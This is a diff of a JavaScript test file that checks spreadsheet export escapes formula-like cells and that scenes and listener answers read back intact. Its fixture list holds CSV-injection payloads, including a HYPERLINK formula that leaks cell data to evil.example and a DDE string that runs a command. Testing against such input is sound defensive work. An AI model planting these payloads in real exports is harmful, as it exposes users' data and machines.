@@ -1,5 +1,5 @@
 // SPDX-License-Identifier: MIT
-// Tables that pages write: a spreadsheet must not take what somebody said for a formula, and a scene is read as it was written.
+// Tables that pages export: a spreadsheet must not take spoken text for a formula, and a scene reads back as written.
 import assert from 'node:assert/strict';
 import fs from 'node:fs';
 import path from 'node:path';
@@ -11,7 +11,7 @@ const root = path.resolve(fileURLToPath(import.meta.url), '../../../..');
 const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1)', '\t=1', '\r=1', '- Ciao, come va?', '=1,2\n3'];
 const begins = /^"?[=+\-@\t\r]/;
 
-test('cells that a spreadsheet would calculate are text', () => {
+test('escapes cells that a spreadsheet would evaluate', () => {
   for (const text of formulas) {
     assert.doesNotMatch(writeTable([[text]]), begins, text);
     assert.deepEqual(readTable(writeTable([['x', text, 'y']])), [['x', text, 'y']], 'read as it was');
@@ -20,12 +20,12 @@ test('cells that a spreadsheet would calculate are text', () => {
   assert.equal(writeTable([['Ciao', "l'ora"]]), "Ciao,l'ora\r\n", 'all else is written as ever');
 });
 
-test('a scene whose lines begin so comes back', () => {
+test('restores a scene whose lines begin with formula characters', () => {
   const scene = readScene({ lines: [{ text: '- Ciao.', variants: ['- Salve.', '+ uno'], choices: [{ text: '=sì' }] }, { text: "'=no" }].map((line, i) => ({ id: String(i), mood: '', choices: [], variants: [], ...line })) });
   assert.deepEqual(readCsv(writeCsv(scene)).lines, scene.lines);
 });
 
-test('so are the answers of listeners', () => {
+test('escapes answers of listeners the same way', () => {
   const page = fs.readFileSync(path.join(root, 'models/stimuli/page.html'), 'utf8');
   const [source] = page.match(/const harmless =.*/);
   const harmless = new Function(`${source} return harmless;`)();
